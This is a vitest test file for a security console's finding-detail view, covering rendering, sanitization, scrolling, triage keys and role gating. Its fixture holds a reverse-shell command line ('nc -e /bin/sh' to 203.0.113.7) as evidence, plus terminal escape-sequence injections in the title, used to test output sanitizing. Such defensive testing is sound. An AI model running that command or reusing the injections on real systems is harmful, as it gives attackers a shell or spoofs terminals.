import { afterEach, describe, expect, it } from 'vitest';
import { renderConsole, type RenderedConsole } from '../../support/frame.js';
import { burst, CONNECTED, finding, NOW, snapshot, summary } from '../findings/fixtures.js';

const SNAP = '../../../../snapshots';
let c: RenderedConsole | undefined;
afterEach(() => c?.unmount());

/** A C2 callback finding with every field filled, and a hostile escape sequence in its title and evidence. */
const C2 = finding(60, {
  severity: 'CRITICAL',
  title: 'Reverse shell to 203.0.113.7 \u001b]0;pwned\u0007from \u001b[31mnc\u001b[0m',
  category: 'network',
  resource: '/usr/bin/nc',
  evidence: ['pid 4242 nc -e /bin/sh 203.0.113.7 4444', 'parent: bash (pid 4100) user www-data \u001b[2J'],
  dedup_key: 'nc:203.0.113.7',
  fingerprint: '9f2c1a7e4b0d',
  indicators: ['203.0.113.7'],
  recommended_action: 'Kill the process, block 203.0.113.7 outbound at the edge firewall and rotate the credentials www-data could read; then look for persistence in cron and systemd units.',
  tags: ['c2', 'mitre:T1059'],
  attributes: { pid: 4242, user: 'www-data' },
  run_id: 'r_01JHK3Q40060ABCDEFGHJKMNPQ',
  ts: NOW - 40_000,
  received_at: NOW - 39_000,
});

/** Its raw event as the CP serves it. */
const RAW = {
  type: 'finding',
  severity: 'critical',
  title: C2.title,
  category: 'network',
  resource: '/usr/bin/nc',
  evidence: C2.evidence,
  dedup_key: 'nc:203.0.113.7',
  ts: C2.ts,
  host: 'web-01',
  agent: 'host-check',
  run_id: C2.run_id,
  seq: 7,
};

async function open(opts: { role?: 'viewer' | 'operator'; height?: number; feed?: boolean } = {}) {
  c = await renderConsole({
    role: opts.role,
    height: opts.height ?? 52,
    events: [CONNECTED, snapshot({ findings: opts.feed === false ? burst(5) : [...burst(5), C2], summary: summary() }), { type: 'ui/jump', view: 'findings' }, { type: 'ui/push', frame: { view: 'finding', key: '60' } }],
  });
  return c;
}

describe('finding view', () => {
  it('asks for the raw event on open and shows every field, the evidence and the raw event as JSON, sanitized', async () => {
    const c = await open();
    expect(c.calls).toContainEqual({ name: 'openFinding', args: [60] });
    expect(c.frame()).toContain('loading from the CP…');
    await c.dispatch({ type: 'finding-detail', id: 60, event: RAW });
    const frame = c.frame();
    for (const text of ['◆ CRIT', 'status       ○ open', 'dedup key    nc:203.0.113.7', 'fingerprint  9f2c1a7e4b0d', 'indicators   203.0.113.7', 'tags         c2, mitre:T1059', 'attributes   pid: 4242', 'Evidence (2 lines)', 'Raw event', '"seq": 7']) {
      expect(frame).toContain(text);
    }
    // No escape sequence reaches the terminal: the title shows them as escapes, the raw JSON as JSON escapes.
    expect(frame).not.toContain('\u001b');
    expect(frame).toContain('Reverse shell to 203.0.113.7 \\x1b]0;pwned\\x07from \\x1b[31mnc');
    expect(frame).toContain('\\u001b[31mnc');
    await expect(frame).toMatchFileSnapshot(`${SNAP}/finding-detail.txt`);
  });

  it('scrolls the body with j/k when it is longer than the view', async () => {
    const c = await open({ height: 24 });
    await c.dispatch({ type: 'finding-detail', id: 60, event: RAW });
    expect(c.frame()).toMatch(/… \d+ more lines/);
    expect(c.frame()).not.toContain('"seq": 7');
    await c.press('G');
    expect(c.frame()).toContain('"seq": 7');
    expect(c.frame()).not.toContain('◆ CRIT');
    await c.press('g');
    expect(c.frame()).toContain('◆ CRIT');
  });

  it('triages it with a/x/p/o and goes to its host (h) and its run (u)', async () => {
    const c = await open();
    await c.press('a', 'x', 'p', 'o');
    expect(c.calls.filter((x) => x.name === 'triage').map((x) => x.args)).toEqual([
      [60, 'acknowledged', 'finding'],
      [60, 'resolved', 'finding'],
      [60, 'false_positive', 'finding'],
      [60, 'open', 'finding'],
    ]);
    await c.press('h');
    expect(c.store.getState().ui.stack.at(-1)).toEqual({ view: 'host', key: 'web-01' });
    await c.press('esc', 'u');
    expect(c.store.getState().ui.stack.at(-1)).toEqual({ view: 'run', key: `agent:${C2.run_id}` });
  });

  it('shows what it can from the raw event when the finding has left the live feed', async () => {
    const c = await open({ feed: false });
    expect(c.frame()).toContain('finding #60');
    await c.dispatch({ type: 'finding-detail', id: 60, event: RAW });
    expect(c.frame()).toContain('◆ CRIT');
    expect(c.frame()).toMatch(/host\s+web-01/);
    expect(c.frame()).toContain(`run          ${C2.run_id}`);
  });

  it('shows a viewer why triage is disabled', async () => {
    const c = await open({ role: 'viewer' });
    await c.press('x');
    expect(c.frame()).toContain('resolve — needs the operator role; you are viewer');
    expect(c.calls.some((x) => x.name === 'triage')).toBe(false);
  });
});
